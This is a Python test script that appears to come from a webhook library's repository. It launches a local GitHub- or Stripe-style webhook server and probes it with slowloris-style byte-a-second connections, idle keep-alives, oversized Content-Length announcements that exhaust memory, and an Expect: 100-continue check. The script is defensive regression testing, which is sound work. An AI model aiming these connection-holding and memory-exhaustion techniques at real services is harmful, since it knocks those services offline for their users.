#!/usr/bin/env python3
"""Attack a webhook server the way issue 11 did, and print what it held and for how long.

Starts the server itself (so it knows its pid and can limit its address space), reads the
`http://ADDR` it prints, and runs one probe:

  timeouts  300 each of: heads sent a byte a second, silent connections, idle keep-alives and
            bodies sent a byte a second; after --wait seconds, how many of each are still open
  reserve   --count connections announcing 2 MiB and sending two 1-byte pieces; the server's
            address space (VmSize) and resident memory (VmRSS) before and after, and whether it
            is still alive (use --as-limit to run it under `prlimit --as`)
  fill      --count connections each announcing 2 MiB and sending all of it but one byte; the
            server's memory 2 s later and --wait seconds later
  expect    an unsigned POST with `Expect: 100-continue`: the first status line it answers

Examples (from the repository root, after `cargo build --examples --all-features`):

  python3 scripts/hostile_probe.py --scheme github --path /webhook \\
      --env GITHUB_WEBHOOK_SECRET=s -- target/debug/examples/axum_github timeouts
  python3 scripts/hostile_probe.py --scheme stripe --path /webhooks/stripe --as-limit 1073741824 \\
      --count 600 --env STRIPE_WEBHOOK_SECRET=whsec_s -- target/debug/examples/actix_stripe reserve

Signatures are well formed but wrong: they pass the header checks, so the body is read, and
would fail at the end.
"""

import argparse
import asyncio
import os
import re
import socket
import subprocess
import sys
import tempfile
import time


def signature_headers(scheme):
    zeros = "0" * 64
    if scheme == "github":
        return f"X-Hub-Signature-256: sha256={zeros}\r\n"
    if scheme == "stripe":
        return f"Stripe-Signature: t={int(time.time())},v1={zeros}\r\n"
    raise SystemExit(f"unknown scheme {scheme}")


def head(args, length, extra=""):
    return (
        f"POST {args.path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{signature_headers(args.scheme)}"
        f"Content-Type: application/json\r\nContent-Length: {length}\r\n{extra}\r\n"
    ).encode()


def memory(pid):
    try:
        with open(f"/proc/{pid}/status") as status:
            fields = dict(line.split(":", 1) for line in status if ":" in line)
        return f"VmSize {fields['VmSize'].strip()}, VmRSS {fields['VmRSS'].strip()}"
    except (FileNotFoundError, KeyError):
        return "process gone"


async def is_open(reader):
    """False once the server has closed the connection (reading what it sent first)."""
    try:
        while True:
            data = await asyncio.wait_for(reader.read(4096), timeout=0.05)
            if not data:
                return False
    except asyncio.TimeoutError:
        return True
    except OSError:
        return False


async def drip(writer, data, every):
    try:
        for byte in data:
            writer.write(bytes([byte]))
            await writer.drain()
            await asyncio.sleep(every)
    except OSError:
        pass


async def timeouts(args, addr):
    host, port = addr
    kinds = {"slow head": [], "silent": [], "idle keep-alive": [], "slow body": []}
    tasks = []
    # A dropped StreamWriter closes its connection: keep every one.
    writers = []
    for _ in range(args.count):
        reader, writer = await asyncio.open_connection(host, port)
        tasks.append(asyncio.create_task(drip(writer, head(args, 10) * 100, 1.0)))
        kinds["slow head"].append(reader)

        reader, writer = await asyncio.open_connection(host, port)
        writers.append(writer)
        kinds["silent"].append(reader)

        reader, writer = await asyncio.open_connection(host, port)
        writer.write(f"POST {args.path} HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n".encode())
        await writer.drain()
        writers.append(writer)
        kinds["idle keep-alive"].append(reader)

        reader, writer = await asyncio.open_connection(host, port)
        writer.write(head(args, 1000))
        tasks.append(asyncio.create_task(drip(writer, b"x" * 1000, 1.0)))
        kinds["slow body"].append(reader)
    start = time.monotonic()
    await asyncio.sleep(args.wait)
    print(f"after {time.monotonic() - start:.0f} s:")
    for kind, readers in kinds.items():
        still = sum([await is_open(reader) for reader in readers])
        print(f"  {kind:16} {still} of {len(readers)} still open")
    for task in tasks:
        task.cancel()


async def reserve(args, addr, pid):
    host, port = addr
    print(f"before: {memory(pid)}")
    writers = []
    for _ in range(args.count):
        _, writer = await asyncio.open_connection(host, port)
        writer.write(head(args, 2 * 1024 * 1024) + b"{")
        await writer.drain()
        writers.append(writer)
    await asyncio.sleep(0.5)
    for writer in writers:
        try:
            writer.write(b" ")
            await writer.drain()
        except OSError:
            pass
    await asyncio.sleep(2)
    print(f"after {args.count} connections announcing 2 MiB and sending 2 bytes: {memory(pid)}")


async def fill(args, addr, pid):
    host, port = addr
    print(f"before: {memory(pid)}")
    writers = []
    limit = 2 * 1024 * 1024
    for _ in range(args.count):
        _, writer = await asyncio.open_connection(host, port)
        writer.write(head(args, limit) + b"{" + b" " * (limit - 2))
        writers.append(writer)
    for writer in writers:
        try:
            await writer.drain()
        except OSError:
            pass
    await asyncio.sleep(2)
    print(f"{args.count} connections each sending the 2 MiB limit minus one byte: {memory(pid)}")
    await asyncio.sleep(args.wait)
    print(f"{args.wait:.0f} s later, still connected: {memory(pid)}")


async def expect(args, addr):
    reader, writer = await asyncio.open_connection(*addr)
    writer.write(
        f"POST {args.path} HTTP/1.1\r\nHost: x\r\nExpect: 100-continue\r\n"
        "Content-Length: 100\r\n\r\n".encode()
    )
    await writer.drain()
    line = await asyncio.wait_for(reader.readline(), timeout=5)
    print(f"first answer to an unsigned Expect: 100-continue: {line.decode().strip()}")


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--scheme", choices=["github", "stripe"], required=True)
    parser.add_argument("--path", required=True)
    parser.add_argument("--env", action="append", default=[], help="NAME=VALUE for the server")
    parser.add_argument("--count", type=int, default=300)
    parser.add_argument("--wait", type=float, default=40)
    parser.add_argument("--as-limit", type=int, help="RLIMIT_AS for the server, in bytes")
    parser.add_argument("--port", type=int, help="give the server this PORT instead of reading the "
                        "address it prints (for servers that print none)")
    parser.add_argument("command", nargs="+", help="the server command, then the probe")
    args = parser.parse_args()
    *server, probe = args.command
    env = dict(os.environ, PORT=str(args.port or 0), RUST_LOG="warn")
    env.update(item.split("=", 1) for item in args.env)
    if args.as_limit:
        server = ["prlimit", f"--as={args.as_limit}", "--"] + server
    # The server's log goes to a file: a pipe nobody reads would fill and stall it.
    log = tempfile.TemporaryFile(mode="w+")
    child = subprocess.Popen(server, env=env, stdout=subprocess.PIPE, stderr=log, text=True)
    try:
        if args.port:
            addr = ("127.0.0.1", args.port)
        else:
            for line in child.stdout:
                found = re.search(r"http://([0-9.]+):([0-9]+)", line)
                if found:
                    addr = (found.group(1), int(found.group(2)))
                    break
            else:
                raise SystemExit("the server printed no address")
        print(f"server pid {child.pid} on {addr[0]}:{addr[1]}")
        # Some servers print their address before they bind it.
        for _ in range(100):
            try:
                socket.create_connection(addr, timeout=1).close()
                break
            except OSError:
                time.sleep(0.05)
        run = {"timeouts": lambda: timeouts(args, addr), "reserve": lambda: reserve(args, addr, child.pid),
               "fill": lambda: fill(args, addr, child.pid),
               "expect": lambda: expect(args, addr)}[probe]
        asyncio.run(run())
        status = child.poll()
        if status is None:
            print("the server is still running")
        else:
            print(f"the server exited with {status}; last of its stderr:")
            log.seek(0)
            print("".join(log.readlines()[-3:]).rstrip())
    finally:
        if child.poll() is None:
            child.kill()
        child.wait()


if __name__ == "__main__":
    sys.exit(main())
